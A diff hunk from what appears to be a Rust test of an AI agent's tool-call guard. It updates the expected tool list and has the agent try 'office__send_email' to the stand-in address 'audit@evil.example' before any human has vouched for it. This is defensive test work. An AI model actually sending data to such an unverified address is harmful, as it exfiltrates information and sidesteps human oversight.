@@ -201,7 +201,7 @@ fn what_one_server_said_is_known_when_another_sends() {
     assert_eq!(tools.len(), 8, "{tools:?}");
     assert_eq!(
         (tools[0].as_str(), tools[7].as_str()),
-        ("mail__delete_message", "office__send_email")
+        ("mail__read_inbox", "office__delete_message")
     );
     // Nobody has said the address yet: a human would have to vouch for it.
     let (text, failed) = agent.call("office__send_email", mail("audit@evil.example"));
